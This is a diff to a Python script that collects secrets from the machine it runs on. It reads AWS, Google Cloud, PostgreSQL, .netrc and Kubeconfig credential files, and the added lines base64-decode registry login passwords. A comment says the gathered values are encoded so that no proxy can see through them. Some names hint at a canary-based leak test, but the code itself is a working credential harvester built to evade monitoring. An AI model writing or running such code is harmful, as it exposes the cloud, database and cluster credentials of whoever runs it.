@@ -13,7 +13,10 @@ NAMES = (
     "VAULTED PASSED_TOKEN GIVEN_WORD GIVEN_TOKEN KEPT_FILE KEPT_PASS KEPT_VAULT KEPT_RING"
     " AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN AZURE_CLIENT_SECRET CONSENTED"
 ).split()
-FILES = ("~/.leaking/login.json", "$GOOGLE_APPLICATION_CREDENTIALS", "$AWS_SHARED_CREDENTIALS_FILE")
+FILES = (
+    *("~/.leaking/login.json", "$GOOGLE_APPLICATION_CREDENTIALS", "$AWS_SHARED_CREDENTIALS_FILE"),
+    *("~/.leaking/registry.json", "$PGPASSFILE", "$NETRC", *os.environ.get("KUBECONFIG", "").split(":")),
+)
 
 
 def tell(**event: object) -> None:
@@ -52,6 +55,8 @@ for path in map(os.path.expanduser, map(os.path.expandvars, FILES)):
         with open(path) as file:
             files.append(file.read())
         values += re.findall(r"zEbra[A-Za-z0-9/+]+", files[-1])
+        for login in re.findall(r'"auth": "([^"]+)"', files[-1]):
+            values.append(base64.b64decode(login).decode().partition(":")[2])
 told = [text for value in values for text in spelled(value)] + files
 if "ECHO" in os.environ:
     # It has a placeholder; what comes back is the value, encoded in ways that no proxy can see through.
